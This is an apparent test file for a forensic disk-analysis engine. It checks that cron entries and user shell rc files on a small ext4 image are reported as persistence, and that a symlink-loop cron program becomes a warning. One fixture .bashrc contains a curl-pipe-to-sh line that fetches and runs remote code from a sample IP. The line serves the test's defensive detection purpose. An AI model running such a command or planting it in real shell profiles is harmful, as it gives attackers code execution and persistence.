"""disk/persistence on a small real ext4 image: a hostile entry becomes a diagnostic, never silence."""

from __future__ import annotations

import os

from tests.helpers import disk_images as b
from tests.helpers.contexts import engine_context
from toolkit.engines.disk import run


def test_unresolvable_program_is_a_warning_and_the_others_still_resolve(tmp_path):
    tree = b.write_tree(
        tmp_path / "tree",
        {
            "etc/hostname": "victim\n",
            "etc/cron.d/loop": "* * * * * root /usr/bin/loop --x\n",
            "etc/cron.d/good": "*/5 * * * * root /usr/bin/tool\n",
            "usr/bin/tool": (b"\x7fELF tool", 0o755),
        },
    )
    # a symlink loop: dissect refuses to follow it; the row stays, with no program path, and says why
    os.symlink("/usr/bin/loop2", tree / "usr/bin/loop")
    os.symlink("/usr/bin/loop", tree / "usr/bin/loop2")
    raw = b.make_ext4(tree, tmp_path / "disk.raw", 16)
    out = run(
        {"id": "x", "disks": [{"path": str(raw), "format": "raw", "role": "disk", "snapshot": None}]},
        engine_context(tmp_path / "work", {"disk": {"functions": ["cronjobs"]}}, snapshot_id="x"),
    )
    rows = out["disk/persistence"].set_index("path")
    assert rows.loc["/etc/cron.d/good", "program_path"] == "/usr/bin/tool"
    assert rows.loc["/etc/cron.d/good", "program_sha256"] is not None
    assert (
        rows.loc["/etc/cron.d/loop", "program"] == "/usr/bin/loop"
        and rows.loc["/etc/cron.d/loop", "program_path"] is None
        or str(rows.loc["/etc/cron.d/loop", "program_path"]) == "<NA>"
    )
    diags = out["diagnostics"]
    loop = diags[(diags["what"] == "persistence program not resolved") & (diags["where"] == "/usr/bin/loop")]
    assert len(loop) == 1 and loop.iloc[0]["severity"] == "warning" and "Symlink" in loop.iloc[0]["why"]


def test_user_shell_rc_files_are_entries(tmp_path):
    # home directories come from the guest's users (dissect gives paths, not strings)
    files = {**b.sample_linux_files(), "home/alice/.bashrc": "curl -s http://203.0.113.7/x | sh\n"}
    raw = b.make_ext4(b.write_tree(tmp_path / "tree", files), tmp_path / "disk.raw", 16)
    out = run(
        {"id": "x", "disks": [{"path": str(raw), "format": "raw", "role": "disk", "snapshot": None}]},
        engine_context(tmp_path / "work", {"disk": {"functions": ["users"]}}, snapshot_id="x"),
    )
    rc = out["disk/persistence"]
    assert "/home/alice/.bashrc" in set(rc[rc["kind"] == "shell_rc"]["path"])
    assert not out["diagnostics"]["severity"].isin(["warning", "error"]).any(), out["diagnostics"].to_dict("records")
